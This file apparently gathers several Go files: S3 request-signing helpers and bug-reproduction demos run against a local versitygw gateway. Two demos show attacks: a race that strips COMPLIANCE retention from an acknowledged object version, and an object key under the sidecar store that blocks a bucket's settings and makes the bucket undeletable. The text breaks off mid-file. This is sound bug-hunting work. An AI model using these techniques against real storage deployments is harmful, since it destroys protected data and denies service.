// ObjPath renders /bucket/key the way an SDK puts it on the wire.
func ObjPath(bucket, key string) string {
	if key == "" {
		return "/" + URIEncode(bucket, true)
	}
	return "/" + URIEncode(bucket, true) + "/" + URIEncode(key, false)
}

// Q builds a query string from key,value pairs ("" value ⇒ bare key).
func Q(kv ...string) string {
	var parts []string
	for i := 0; i+1 < len(kv); i += 2 {
		if kv[i+1] == "" {
			parts = append(parts, URIEncode(kv[i], true))
		} else {
			parts = append(parts, URIEncode(kv[i], true)+"="+URIEncode(kv[i+1], true))
		}
	}
	return strings.Join(parts, "&")
}

func canonicalQuery(q string, skip string) string {
	if q == "" {
		return ""
	}
	type kv struct{ k, v string }
	var kvs []kv
	for _, p := range strings.Split(q, "&") {
		if p == "" {
			continue
		}
		k, v, _ := strings.Cut(p, "=")
		dk, err := url.QueryUnescape(k)
		if err != nil {
			dk = k
		}
		dv, err := url.QueryUnescape(v)
		if err != nil {
			dv = v
		}
		if dk == skip {
			continue
		}
		kvs = append(kvs, kv{URIEncode(dk, true), URIEncode(dv, true)})
	}
	sort.SliceStable(kvs, func(i, j int) bool {
		if kvs[i].k != kvs[j].k {
			return kvs[i].k < kvs[j].k
		}
		return kvs[i].v < kvs[j].v
	})
	var parts []string
	for _, e := range kvs {
		parts = append(parts, e.k+"="+e.v)
	}
	return strings.Join(parts, "&")
}

// SignOpts controls Sign. Zero value: now, default region, payload hash =
// sha256(body).
type SignOpts struct {
	Time        time.Time
	Region      string
	PayloadHash string // "", Unsigned, Stream*
	// DecodedLen is set as x-amz-decoded-content-length for streaming modes (-1: do not set)
	NoSignHeaders []string // headers (lower case) left out of SignedHeaders
}

// Signed describes what Sign computed, so callers can build chunk signatures.
type Signed struct {
	Time      time.Time
	Region    string
	Signature string
	Key       []byte
	Scope     string
}

func signedHeaderSet(r *Req, skip []string) []string {
	set := map[string]bool{"host": true}
	for _, h := range r.Headers {
		l := strings.ToLower(h[0])
		if strings.HasPrefix(l, "x-amz-") || l == "content-md5" || l == "range" || l == "content-type" {
			set[l] = true
		}
	}
	for _, s := range skip {
		delete(set, s)
	}
	var out []string
	for k := range set {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func canonicalHeaders(r *Req, names []string) string {
	var b strings.Builder
	for _, n := range names {
		var vals []string
		if n == "host" {
			if h := r.Get("Host"); h != "" {
				vals = []string{h}
			} else {
				vals = []string{Host}
			}
		} else {
			for _, h := range r.Headers {
				if strings.ToLower(h[0]) == n {
					vals = append(vals, strings.Join(strings.Fields(h[1]), " "))
				}
			}
		}
		b.WriteString(n + ":" + strings.Join(vals, ",") + "\n")
	}
	return b.String()
}

// Sign adds X-Amz-Date, X-Amz-Content-Sha256 and Authorization.
func Sign(r *Req, c Creds, o SignOpts) Signed {
	t := o.Time
	if t.IsZero() {
		t = time.Now()
	}
	t = t.UTC()
	region := o.Region
	if region == "" {
		region = Region
	}
	ph := o.PayloadHash
	if ph == "" {
		ph = SHA256Hex(r.Body)
	}
	amzdate := t.Format("20060102T150405Z")
	r.Set("X-Amz-Date", amzdate)
	r.Set("X-Amz-Content-Sha256", ph)
	r.Del("Authorization")
	names := signedHeaderSet(r, o.NoSignHeaders)
	creq := strings.Join([]string{
		r.Method,
		r.Path,
		canonicalQuery(r.Query, ""),
		canonicalHeaders(r, names),
		strings.Join(names, ";"),
		ph,
	}, "\n")
	scope := t.Format("20060102") + "/" + region + "/s3/aws4_request"
	sts := "AWS4-HMAC-SHA256\n" + amzdate + "\n" + scope + "\n" + SHA256Hex([]byte(creq))
	key := SigningKey(c.Secret, region, t)
	sig := hex.EncodeToString(hmac256(key, []byte(sts)))
	r.Headers = append(r.Headers, [2]string{"Authorization",
		fmt.Sprintf("AWS4-HMAC-SHA256 Credential=%s/%s,SignedHeaders=%s,Signature=%s", c.Access, scope, strings.Join(names, ";"), sig)})
	return Signed{Time: t, Region: region, Signature: sig, Key: key, Scope: scope}
}

// Presign turns r into a presigned-URL request (query auth) valid for expires seconds.
func Presign(r *Req, c Creds, o SignOpts, expires int) Signed {
	t := o.Time
	if t.IsZero() {
		t = time.Now()
	}
	t = t.UTC()
	region := o.Region
	if region == "" {
		region = Region
	}
	amzdate := t.Format("20060102T150405Z")
	scope := t.Format("20060102") + "/" + region + "/s3/aws4_request"
	names := signedHeaderSet(r, o.NoSignHeaders)
	add := Q("X-Amz-Algorithm", "AWS4-HMAC-SHA256", "X-Amz-Credential", c.Access+"/"+scope,
		"X-Amz-Date", amzdate, "X-Amz-Expires", fmt.Sprint(expires), "X-Amz-SignedHeaders", strings.Join(names, ";"))
	if r.Query != "" {
		r.Query += "&" + add
	} else {
		r.Query = add
	}
	creq := strings.Join([]string{
		r.Method,
		r.Path,
		canonicalQuery(r.Query, "X-Amz-Signature"),
		canonicalHeaders(r, names),
		strings.Join(names, ";"),
		Unsigned,
	}, "\n")
	sts := "AWS4-HMAC-SHA256\n" + amzdate + "\n" + scope + "\n" + SHA256Hex([]byte(creq))
	key := SigningKey(c.Secret, region, t)
	sig := hex.EncodeToString(hmac256(key, []byte(sts)))
	r.Query += "&X-Amz-Signature=" + sig
	return Signed{Time: t, Region: region, Signature: sig, Key: key, Scope: scope}
}

// ---- checksums -------------------------------------------------------

var ChecksumAlgos = []string{"crc32", "crc32c", "sha1", "sha256", "crc64nvme"}

func newHash(algo string) hash.Hash {
	switch algo {
	case "crc32":
		return crc32.NewIEEE()
	case "crc32c":
		return crc32.New(crc32.MakeTable(crc32.Castagnoli))
	case "sha1":
		return sha1.New()
	case "sha256":
		return sha256.New()
	case "crc64nvme":
		return crc64.New(crc64.MakeTable(0x9a6c9329ac4bc9b5))
	}
	panic("unknown checksum algo " + algo)
}

// Checksum returns the base64 checksum value S3 uses for algo.
func Checksum(algo string, data []byte) string {
	h := newHash(algo)
	h.Write(data)
	return base64.StdEncoding.EncodeToString(h.Sum(nil))
}

var _ = binary.BigEndian

// ---- aws-chunked encoders --------------------------------------------

// SplitChunks cuts data into chunks of the given sizes (the remainder, if any,
// becomes one more chunk).
func SplitChunks(data []byte, sizes []int) [][]byte {
	var out [][]byte
	off := 0
	for _, n := range sizes {
		if off >= len(data) {
			break
		}
		if n > len(data)-off {
			n = len(data) - off
		}
		out = append(out, data[off:off+n])
		off += n
	}
	if off < len(data) {
		out = append(out, data[off:])
	}
	return out
}

// ChunkSpan records where the pieces of an encoded stream are (for mutation).
type ChunkSpan struct {
	HeaderStart, DataStart, DataEnd int // header = [HeaderStart,DataStart), data = [DataStart,DataEnd), then \r\n
}

// EncodeSigned renders a STREAMING-AWS4-HMAC-SHA256-PAYLOAD[-TRAILER] body.
// trailerAlgo "" ⇒ no trailer.
// SizeDigits is the minimum number of hex digits the encoders write for a chunk size (leading zeros are legal).
var SizeDigits = 1

func EncodeSigned(s Signed, chunks [][]byte, trailerAlgo string) ([]byte, []ChunkSpan) {
	var b bytes.Buffer
	var spans []ChunkSpan
	prev := s.Signature
	amzdate := s.Time.Format("20060102T150405Z")
	var all []byte
	emit := func(data []byte) {
		sts := "AWS4-HMAC-SHA256-PAYLOAD\n" + amzdate + "\n" + s.Scope + "\n" + prev + "\n" + EmptySHA + "\n" + SHA256Hex(data)
		sig := hex.EncodeToString(hmac256(s.Key, []byte(sts)))
		prev = sig
		sp := ChunkSpan{HeaderStart: b.Len()}
		fmt.Fprintf(&b, "%0*x;chunk-signature=%s\r\n", SizeDigits, len(data), sig)
		sp.DataStart = b.Len()
		b.Write(data)
		sp.DataEnd = b.Len()
		spans = append(spans, sp)
	}
	for _, c := range chunks {
		emit(c)
		b.WriteString("\r\n")
		all = append(all, c...)
	}
	emit(nil)
	if trailerAlgo == "" {
		b.WriteString("\r\n")
		return b.Bytes(), spans
	}
	if trailerAlgo != "" {
		name := "x-amz-checksum-" + trailerAlgo
		val := Checksum(trailerAlgo, all)
		sts := "AWS4-HMAC-SHA256-TRAILER\n" + amzdate + "\n" + s.Scope + "\n" + prev + "\n" + SHA256Hex([]byte(name+":"+val+"\n"))
		sig := hex.EncodeToString(hmac256(s.Key, []byte(sts)))
		fmt.Fprintf(&b, "%s:%s\r\nx-amz-trailer-signature:%s\r\n", name, val, sig)
	}
	b.WriteString("\r\n")
	return b.Bytes(), spans
}

// EncodeUnsigned renders a STREAMING-UNSIGNED-PAYLOAD-TRAILER body.
func EncodeUnsigned(chunks [][]byte, trailerAlgo string) ([]byte, []ChunkSpan) {
	var b bytes.Buffer
	var spans []ChunkSpan
	var all []byte
	for _, c := range chunks {
		sp := ChunkSpan{HeaderStart: b.Len()}
		fmt.Fprintf(&b, "%0*x\r\n", SizeDigits, len(c))
		sp.DataStart = b.Len()
		b.Write(c)
		sp.DataEnd = b.Len()
		spans = append(spans, sp)
		b.WriteString("\r\n")
		all = append(all, c...)
	}
	b.WriteString("0\r\n")
	if trailerAlgo != "" {
		fmt.Fprintf(&b, "x-amz-checksum-%s:%s\r\n", trailerAlgo, Checksum(trailerAlgo, all))
	}
	b.WriteString("\r\n")
	return b.Bytes(), spans
}
