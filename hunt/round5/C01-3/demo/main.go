//go:build huntdemo

// C01 finding 3: CopyObject onto the same key with
// x-amz-metadata-directive: REPLACE (the S3 way to edit an object's
// metadata) keeps every content header of the old object that the request
// does not name again. The copy is acknowledged, but GET/HEAD then return
// Content-Encoding, Cache-Control, Content-Disposition, Content-Language and
// Expires values that were not supplied with it - the same request to another
// key stores exactly the supplied set.
package main

import (
	"fmt"
	"os"
	"strings"
)

func main() { os.Exit(run()) }

var contentHdrs = []string{"Content-Type", "Content-Encoding", "Cache-Control", "Content-Disposition", "Content-Language", "Expires"}

func describe(r resp) string {
	var sb strings.Builder
	for _, h := range contentHdrs {
		fmt.Fprintf(&sb, " %s=%q", h, r.hdr.Get(h))
	}
	for k, v := range r.hdr {
		if strings.HasPrefix(strings.ToLower(k), "x-amz-meta-") {
			fmt.Fprintf(&sb, " %s=%q", strings.ToLower(k), v[0])
		}
	}
	return sb.String()
}

func run() int {
	base := mkBase("f3")
	defer os.RemoveAll(base)
	g := startGW(base, cfg{})

	if r := g.do("PUT", "/bkt", nil, nil); r.status != 200 {
		fmt.Println("setup: create bucket:", r.status, string(r.body))
		return 2
	}

	// the object was uploaded with a wrong Content-Encoding (and more)
	orig := map[string]string{
		"Content-Type":        "application/json",
		"Content-Encoding":    "gzip",
		"Cache-Control":       "max-age=31536000",
		"Content-Disposition": "attachment; filename=\"old.json\"",
		"Content-Language":    "de",
		"Expires":             "Thu, 01 Dec 2030 16:00:00 GMT",
		"x-amz-meta-rev":      "1",
	}
	if r := g.do("PUT", "/bkt/doc", orig, []byte(`{"plain":"json, not gzip"}`)); r.status != 200 {
		fmt.Println("setup: put object:", r.status, string(r.body))
		return 2
	}

	// the correction: replace the metadata; only these are supplied
	repl := map[string]string{
		"x-amz-metadata-directive": "REPLACE",
		"Content-Type":             "application/json",
		"x-amz-meta-rev":           "2",
	}
	want := map[string]string{"Content-Type": "application/json"} // every other content header: absent

	bad := 0
	for _, dst := range []string{"other", "doc"} {
		h := map[string]string{"x-amz-copy-source": "bkt/doc"}
		for k, v := range repl {
			h[k] = v
		}
		cr := g.do("PUT", "/bkt/"+dst, h, nil)
		if cr.status != 200 {
			fmt.Printf("CopyObject doc -> %s REPLACE: refused %d %s\n", dst, cr.status, cr.body)
			continue
		}
		for _, m := range []string{"GET", "HEAD"} {
			r := g.do(m, "/bkt/"+dst, nil, nil)
			fmt.Printf("CopyObject doc -> %-5s REPLACE: 200; %-4s %s: %d%s\n", dst, m, dst, r.status, describe(r))
			ok := r.status == 200 && r.hdr.Get("x-amz-meta-rev") == "2"
			for _, ch := range contentHdrs {
				if r.hdr.Get(ch) != want[ch] {
					ok = false
				}
			}
			if !ok {
				bad++
			}
		}
	}

	if bad > 0 {
		fmt.Println("VIOLATION: after the acknowledged CopyObject doc -> doc with REPLACE, GET/HEAD of doc still return Content-Encoding: gzip, Cache-Control, Content-Disposition, Content-Language and Expires of the replaced metadata, none of which were supplied (the same copy to another key returns exactly the supplied headers)")
		return 1
	}
	fmt.Println("ok: a copy onto itself with REPLACE returns exactly the supplied content headers")
	return 0
}
