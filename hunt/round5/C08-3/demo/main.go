//go:build huntdemo

// C08 finding 3: ListMultipartUploads answers an EMPTY, non-truncated listing
// whenever key-marker (or upload-id-marker) does not name an upload that is
// in progress right now. The markers are positions ("list what sorts after
// this"), so a paged listing whose marker upload was completed or aborted in
// the meantime - the ordinary "list a page, abort what it shows, fetch the
// next page" cleanup loop - ends early and never shows the other uploads.
package main

import (
	"context"
	"fmt"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

var (
	ctx = context.Background()
	bkt = aws.String("bkt")
)

func keysOf(out *s3.ListMultipartUploadsOutput) []string {
	keys := []string{}
	for _, u := range out.Uploads {
		keys = append(keys, *u.Key)
	}
	return keys
}

func main() {
	root := scratchDir("c08-hunt3")
	be, err := posix.New(root, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	must(err)
	c := startGateway(be).cli

	_, err = c.CreateBucket(ctx, &s3.CreateBucketInput{Bucket: bkt})
	must(err)
	for _, k := range []string{"k1", "k2", "k3"} {
		_, err := c.CreateMultipartUpload(ctx, &s3.CreateMultipartUploadInput{Bucket: bkt, Key: aws.String(k)})
		must(err)
	}

	var bad []string

	// (a) a key marker that is just a position in the key space
	out, err := c.ListMultipartUploads(ctx, &s3.ListMultipartUploadsInput{Bucket: bkt, KeyMarker: aws.String("k0")})
	must(err)
	fmt.Printf("uploads in progress: k1 k2 k3; ListMultipartUploads key-marker=k0 -> %v truncated=%v\n", keysOf(out), aws.ToBool(out.IsTruncated))
	if strings.Join(keysOf(out), " ") != "k1 k2 k3" {
		bad = append(bad, fmt.Sprintf("key-marker=k0 lists %v instead of [k1 k2 k3]", keysOf(out)))
	}

	// (b) paged cleanup: page 1, abort what it shows, page 2 from the returned markers
	p1, err := c.ListMultipartUploads(ctx, &s3.ListMultipartUploadsInput{Bucket: bkt, MaxUploads: aws.Int32(1)})
	must(err)
	if len(p1.Uploads) != 1 || !aws.ToBool(p1.IsTruncated) {
		fmt.Println("harness error: unexpected first page")
		exit(2)
	}
	fmt.Printf("page 1 (max-uploads=1) -> %v truncated=%v next-key-marker=%s next-upload-id-marker=%s\n",
		keysOf(p1), aws.ToBool(p1.IsTruncated), aws.ToString(p1.NextKeyMarker), aws.ToString(p1.NextUploadIdMarker))
	_, err = c.AbortMultipartUpload(ctx, &s3.AbortMultipartUploadInput{Bucket: bkt, Key: p1.Uploads[0].Key, UploadId: p1.Uploads[0].UploadId})
	must(err)
	fmt.Printf("AbortMultipartUpload %s %s -> 204\n", *p1.Uploads[0].Key, *p1.Uploads[0].UploadId)
	p2, err := c.ListMultipartUploads(ctx, &s3.ListMultipartUploadsInput{Bucket: bkt, MaxUploads: aws.Int32(1),
		KeyMarker: p1.NextKeyMarker, UploadIdMarker: p1.NextUploadIdMarker})
	must(err)
	fmt.Printf("page 2 (markers of page 1) -> %v truncated=%v\n", keysOf(p2), aws.ToBool(p2.IsTruncated))
	if strings.Join(keysOf(p2), " ") != "k2" || !aws.ToBool(p2.IsTruncated) {
		bad = append(bad, fmt.Sprintf("after aborting the upload of page 1, page 2 is %v truncated=%v instead of [k2] truncated=true: the uploads of k2 and k3 are never listed",
			keysOf(p2), aws.ToBool(p2.IsTruncated)))
	}

	all, err := c.ListMultipartUploads(ctx, &s3.ListMultipartUploadsInput{Bucket: bkt})
	must(err)
	fmt.Printf("unpaged listing at the same moment -> %v\n", keysOf(all))

	if len(bad) != 0 {
		fmt.Println("VIOLATION: ListMultipartUploads hides uploads in progress when the marker names no live upload: " + strings.Join(bad, "; "))
		exit(1)
	}
	fmt.Println("ok: the markers are treated as positions")
	exit(0)
}
