//go:build huntdemo

package main

// Minimal in-process gateway harness: the real s3api router and the real
// posix backend on scratch directories under /dev/shm, reached over loopback
// TCP with SigV4-signed requests.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	rootAccess = "rootaccess"
	rootSecret = "rootsecret"
	region     = "us-east-1"
)

type gateway struct {
	base    string
	scratch string
	client  *http.Client
}

type resp struct {
	status int
	hdr    http.Header
	body   []byte
}

func (r resp) code() string {
	// <Code>..</Code> of an S3 error document, if any
	s := string(r.body)
	i := strings.Index(s, "<Code>")
	j := strings.Index(s, "</Code>")
	if i < 0 || j < i {
		return ""
	}
	return s[i+6 : j]
}

func startGateway(ms func(meta.MetadataStorer) meta.MetadataStorer) (*gateway, error) {
	scratch, err := os.MkdirTemp("/dev/shm", "c10hunt-")
	if err != nil {
		return nil, err
	}
	root := scratch + "/root"
	vers := scratch + "/versions"
	for _, d := range []string{root, vers} {
		if err := os.Mkdir(d, 0755); err != nil {
			return nil, err
		}
	}

	var store meta.MetadataStorer = meta.XattrMeta{}
	if ms != nil {
		store = ms(store)
	}
	be, err := posix.New(root, store, posix.PosixOpts{
		NewDirPerm:    0755,
		VersioningDir: vers,
	})
	if err != nil {
		return nil, err
	}

	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		DisableStartupMessage: true,
	})
	rootAcc := auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin}
	iam := auth.NewIAMServiceSingle(rootAcc)
	_, err = s3api.New(app, be,
		middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet())
	if err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	go app.Listener(ln)

	return &gateway{
		base:    "http://" + ln.Addr().String(),
		scratch: scratch,
		client:  &http.Client{Timeout: 30 * time.Second},
	}, nil
}

func (g *gateway) cleanup() { os.RemoveAll(g.scratch) }

// do sends one signed request. path is "/bucket/key", query e.g. "versionId=x".
func (g *gateway) do(method, path, query string, hdrs map[string]string, body []byte) resp {
	u := g.base + (&url.URL{Path: path}).EscapedPath()
	if query != "" {
		u += "?" + query
	}
	req, err := http.NewRequest(method, u, bytes.NewReader(body))
	if err != nil {
		panic(err)
	}
	req.ContentLength = int64(len(body))
	for k, v := range hdrs {
		req.Header.Set(k, v)
	}
	sum := sha256.Sum256(body)
	hexsum := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hexsum)
	signer := v4.NewSigner()
	err = signer.SignHTTP(context.Background(),
		aws.Credentials{AccessKeyID: rootAccess, SecretAccessKey: rootSecret},
		req, hexsum, "s3", region, time.Now())
	if err != nil {
		panic(err)
	}
	res, err := g.client.Do(req)
	if err != nil {
		return resp{status: -1, body: []byte(err.Error())}
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return resp{status: res.StatusCode, hdr: res.Header, body: b}
}

func must(ok bool, format string, a ...any) {
	if !ok {
		fmt.Printf("SETUP FAILED: "+format+"\n", a...)
		os.Exit(2)
	}
}
