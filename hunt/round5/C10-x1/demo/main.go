//go:build huntdemo

package main

// C10 / extra observation x1 (not one of the three numbered findings)
//
// PutObject with x-amz-object-lock-mode / -retain-until-date publishes the
// new object first (rename into place) and stores the retention afterwards,
// addressed by bucket/key (posix.PutObject -> p.PutObjectRetention(bucket,
// key, "", ...)), i.e. on whatever is the current version at that moment.
// A second PutObject of the same key that gets in between is let through by
// the lock check (the first version carries no retention yet) and becomes the
// current version; the COMPLIANCE retention of the first request then lands
// on the second request's version. The first request is answered 200 with its
// version id: that version was acknowledged as COMPLIANCE-retained, has no
// retention at all and can be deleted by anybody who may delete objects.
//
// The schedule is made deterministic with a metadata-store wrapper that parks
// the first PutObject in PutObjectRetention's read of "object-retention"
// (the first thing that happens to that attribute after the object has been
// linked).

import (
	"fmt"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/versity/versitygw/backend/meta"
)

type pausingMeta struct {
	meta.MetadataStorer

	mu      sync.Mutex
	armed   bool
	bucket  string
	object  string
	attr    string
	reached chan struct{}
	resume  chan struct{}
}

func (p *pausingMeta) RetrieveAttribute(f *os.File, bucket, object, attribute string) ([]byte, error) {
	p.mu.Lock()
	hit := p.armed && f == nil && bucket == p.bucket && object == p.object && attribute == p.attr
	if hit {
		p.armed = false
	}
	p.mu.Unlock()
	if hit {
		close(p.reached)
		<-p.resume
	}
	return p.MetadataStorer.RetrieveAttribute(f, bucket, object, attribute)
}

func main() {
	pm := &pausingMeta{reached: make(chan struct{}), resume: make(chan struct{})}
	g, err := startGateway(func(inner meta.MetadataStorer) meta.MetadataStorer {
		pm.MetadataStorer = inner
		return pm
	})
	must(err == nil, "start gateway: %v", err)
	defer g.cleanup()

	const bucket, key = "lockb", "ledger"
	const protected = "LEDGER-WRITTEN-WITH-COMPLIANCE-RETENTION"
	until := time.Now().Add(365 * 24 * time.Hour).UTC().Format(time.RFC3339)
	lockHdrs := map[string]string{
		"x-amz-object-lock-mode":              "COMPLIANCE",
		"x-amz-object-lock-retain-until-date": until,
	}

	r := g.do("PUT", "/"+bucket, "", map[string]string{"x-amz-bucket-object-lock-enabled": "true"}, nil)
	must(r.status == 200, "create lock bucket: %d %s", r.status, r.body)

	// reference: without a concurrent request the version is protected
	r = g.do("PUT", "/"+bucket+"/ref", "", lockHdrs, []byte("x"))
	must(r.status == 200, "put ref: %d %s", r.status, r.body)
	refV := r.hdr.Get("x-amz-version-id")
	r = g.do("DELETE", "/"+bucket+"/ref", "versionId="+refV, nil, nil)
	must(r.status != 204 && r.status != 200, "reference version deletable: %d", r.status)
	fmt.Printf("quiescent: PUT with COMPLIANCE headers, then DELETE ?versionId -> %d %s (retention honoured)\n", r.status, r.code())

	// T1: PUT ledger with COMPLIANCE retention; parked after the object has
	// been published, before its retention is stored
	pm.mu.Lock()
	pm.armed, pm.bucket, pm.object, pm.attr = true, bucket, key, "object-retention"
	pm.mu.Unlock()
	t1 := make(chan resp, 1)
	go func() { t1 <- g.do("PUT", "/"+bucket+"/"+key, "", lockHdrs, []byte(protected)) }()
	<-pm.reached

	// T2: plain PUT of the same key
	r2 := g.do("PUT", "/"+bucket+"/"+key, "", nil, []byte("some other upload"))
	vB := r2.hdr.Get("x-amz-version-id")
	fmt.Printf("T2: PUT %s (no lock headers) -> %d, version B\n", key, r2.status)

	close(pm.resume)
	r1 := <-t1
	vA := r1.hdr.Get("x-amz-version-id")
	fmt.Printf("T1: PUT %s with COMPLIANCE until %s -> %d, version A\n", key, until, r1.status)
	must(r1.status == 200 && r2.status == 200 && vA != "" && vB != "" && vA != vB, "puts: %d %d %q %q", r1.status, r2.status, vA, vB)

	ra := g.do("GET", "/"+bucket+"/"+key, "retention&versionId="+vA, nil, nil)
	rb := g.do("GET", "/"+bucket+"/"+key, "retention&versionId="+vB, nil, nil)
	fmt.Printf("after: GetObjectRetention(version A) -> %d %s\n", ra.status, codeOrBody(ra))
	fmt.Printf("after: GetObjectRetention(version B) -> %d %s\n", rb.status, codeOrBody(rb))

	if ra.status == 200 && strings.Contains(string(ra.body), "<Mode>COMPLIANCE</Mode>") {
		fmt.Println("OK: the version that was acknowledged with COMPLIANCE retention carries it")
		g.cleanup()
		os.Exit(0)
	}

	rd := g.do("DELETE", "/"+bucket+"/"+key, "versionId="+vA, nil, nil)
	rv := g.do("GET", "/"+bucket+"/"+key, "versionId="+vA, nil, nil)
	fmt.Printf("consequence: DELETE %s?versionId=A (no bypass) -> %d %s; GET ?versionId=A -> %d %s\n", key, rd.status, rd.code(), rv.status, rv.code())

	fmt.Printf("VIOLATION: PUT %s/%s with COMPLIANCE retention until %s was acknowledged (200, version %s), but the retention was stored on the version of a concurrent plain PUT (%s); the acknowledged version has no retention (%d %s) and was deleted without bypass (%d), GET by its version id -> %d\n",
		bucket, key, until, vA, vB, ra.status, ra.code(), rd.status, rv.status)
	g.cleanup()
	os.Exit(1)
}

func codeOrBody(r resp) string {
	if c := r.code(); c != "" {
		return c
	}
	s := strings.ReplaceAll(string(r.body), "\n", "")
	if i := strings.Index(s, "?>"); i >= 0 {
		s = s[i+2:]
	}
	return s
}
