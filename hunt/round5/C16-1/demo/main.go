//go:build huntdemo

// Sidecar metadata store: the attributes of a bucket live in
// <sidecar>/<bucket>/meta/<attribute>, the attributes of an object in
// <sidecar>/<bucket>/<key>/meta/<attribute>.  An object whose key starts with
// "meta/<bucket attribute name>" turns the place of that bucket attribute
// into a directory: the setting can no longer be read or written, and for
// "bucket-lock" (or "versioning") every upload and every delete in the bucket
// fails from then on, for root too, so that the bucket can never be emptied
// or deleted through the API.
package main

import (
	"fmt"
	"os"

	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

const policyDoc = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"bob","Action":"s3:GetObject","Resource":"arn:aws:s3:::polbkt/*"}]}`

func main() {
	base := mustDir("/dev/shm/hunt-C16-1")
	defer os.RemoveAll(base)
	root := mustDir(base + "/root")
	side := mustDir(base + "/sidecar")
	iamdir := mustDir(base + "/iam")

	sc, err := meta.NewSideCar(side)
	if err != nil {
		panic(err)
	}
	var ms meta.MetadataStorer = sc
	opts := posix.PosixOpts{NewDirPerm: 0755, SideCarDir: side}
	if os.Getenv("HUNT_META") == "xattr" {
		// control run: with the xattr store the same requests are answered correctly
		ms, opts.SideCarDir = meta.XattrMeta{}, ""
	}
	be, err := posix.New(root, ms, opts)
	if err != nil {
		panic(err)
	}
	rootc := cred{"rootaccess", "rootsecret"}
	iam, err := auth.New(&auth.Opts{RootAccount: auth.Account{Access: rootc.access, Secret: rootc.secret, Role: auth.RoleAdmin}, Dir: iamdir, CacheDisable: true})
	if err != nil {
		panic(err)
	}
	for _, u := range []string{"alice", "bob"} {
		if err := iam.CreateAccount(auth.Account{Access: u, Secret: u + "secret", Role: auth.RoleUserPlus}); err != nil {
			panic(err)
		}
	}
	alice := cred{"alice", "alicesecret"}
	g := startGW(be, iam, rootc)

	var bad []string
	check := func(what string, r resp, want string) {
		got := r.String()
		mark := "ok "
		if got != want {
			mark = "BAD"
			bad = append(bad, fmt.Sprintf("%s: %s (want %s)", what, got, want))
		}
		fmt.Printf("  %s %-62s -> %-45s want %s\n", mark, what, got, want)
	}

	fmt.Println("bucket lockbkt (owner alice), object key meta/bucket-lock:")
	check("alice PUT /lockbkt", g.do(alice, "PUT", "/lockbkt", nil), "200")
	check("alice GET /lockbkt?object-lock (never configured)", g.do(alice, "GET", "/lockbkt?object-lock", nil), "404 ObjectLockConfigurationNotFoundError")
	check("alice PUT /lockbkt/meta/bucket-lock", g.do(alice, "PUT", "/lockbkt/meta/bucket-lock", []byte("just an object")), "200")
	check("alice GET /lockbkt?object-lock (still never configured)", g.do(alice, "GET", "/lockbkt?object-lock", nil), "404 ObjectLockConfigurationNotFoundError")
	check("alice PUT /lockbkt/other", g.do(alice, "PUT", "/lockbkt/other", []byte("x")), "200")
	check("root  PUT /lockbkt/other", g.do(rootc, "PUT", "/lockbkt/other", []byte("x")), "200")
	check("root  DELETE /lockbkt/meta/bucket-lock", g.do(rootc, "DELETE", "/lockbkt/meta/bucket-lock", nil), "204")
	check("root  DELETE /lockbkt/other", g.do(rootc, "DELETE", "/lockbkt/other", nil), "204")
	check("root  DELETE /lockbkt (after deleting its objects)", g.do(rootc, "DELETE", "/lockbkt", nil), "204")

	fmt.Println("bucket polbkt (owner alice), object key meta/policy/readme, deleted again:")
	check("alice PUT /polbkt", g.do(alice, "PUT", "/polbkt", nil), "200")
	check("alice PUT /polbkt/meta/policy/readme", g.do(alice, "PUT", "/polbkt/meta/policy/readme", []byte("x")), "200")
	check("root  DELETE /polbkt/meta/policy/readme", g.do(rootc, "DELETE", "/polbkt/meta/policy/readme", nil), "204")
	check("alice GET /polbkt?policy (never written)", g.do(alice, "GET", "/polbkt?policy", nil), "404 NoSuchBucketPolicy")
	check("alice GET /polbkt (list her own, now empty bucket)", g.do(alice, "GET", "/polbkt", nil), "200")
	check("root  PUT /polbkt?policy (valid document)", g.do(rootc, "PUT", "/polbkt?policy", []byte(policyDoc)), "200")
	r := g.do(rootc, "GET", "/polbkt?policy", nil)
	check("root  GET /polbkt?policy", r, "200")
	if r.status == 200 && r.body != policyDoc {
		bad = append(bad, "policy read back differs: "+r.body)
	}

	if len(bad) > 0 {
		fmt.Printf("VIOLATION: sidecar store: objects named meta/<bucket attribute> take the place of the bucket's settings: %d wrong answers, first: %s\n", len(bad), bad[0])
		os.Exit(1)
	}
	fmt.Println("OK: bucket settings are independent of object keys")
}
