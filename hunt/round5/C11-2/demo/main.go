//go:build huntdemo

// C11 finding 2: a directory object ("photos/") that is put again is
// replaced in place: PutObject removes every attribute of the published
// directory (among them the ETag attribute that makes a directory an object
// at all) and then stores the new ones one by one. A gateway killed in
// between leaves an acknowledged object that has vanished from the listings,
// answers HEAD with an empty ETag and without its metadata, and - being a
// directory the listings do not show - keeps the bucket from being deleted.
//
// Configuration: default (xattr metadata store), no versioning.
package main

import (
	"bytes"
	"fmt"
	"os"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
